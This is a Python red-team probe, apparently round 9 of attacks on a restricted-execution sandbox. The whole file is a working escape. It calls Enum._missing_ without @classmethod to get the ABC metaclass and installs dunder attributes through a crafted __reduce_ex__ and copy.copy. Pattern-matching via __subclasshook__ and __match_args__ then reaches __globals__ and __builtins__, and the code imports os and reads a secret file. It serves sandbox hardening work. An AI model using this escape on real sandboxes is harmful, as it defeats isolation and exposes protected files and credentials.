# family: red team, round 9 (enum_missing_without_classmethod)
# own_object trusts type(self) in any undecorated method whose first parameter is self. Enum looks up
# _missing_ on the class and calls it with the value only: defined without @classmethod, its "self" is the
# value passed to Color(value). Color(Base) makes type(self) the metaclass of Base.
import abc
import copy
from enum import Enum

STASH = []


class Base(abc.ABC):
    pass


class Color(Enum):
    RED = 1

    def _missing_(self):
        STASH.append(type(self))
        return None


def metaclass():
    if not STASH:
        try:
            Color(Base)
        except ValueError:
            pass
    return STASH[0]


class Probe(abc.ABC):
    __match_args__ = ("value",)


def _d(word):
    u = "_"
    return u + u + word + u + u


def install(target, names):
    def reducer(self, protocol):
        return (lambda: target, (), (None, names))

    maker = metaclass()("R", (), {_d("reduce_ex"): reducer})
    copy.copy(maker())


def read(obj, attribute):
    install(Probe, {_d("subclasshook"): classmethod(lambda c, sub: True), _d("match_args"): (attribute,)})
    match obj:
        case Probe(value):
            return value
    return None


def run():
    g = read(read, _d("globals"))
    b = g[_d("builtins")]
    if not isinstance(b, dict):
        b = read(b, _d("dict"))
    osmod = b[_d("import")]("os")
    return metaclass().__name__, type(osmod).__name__, osmod.getpid(), b["open"]("/tmp/r9/work/secret.txt").read().strip()


print(run())
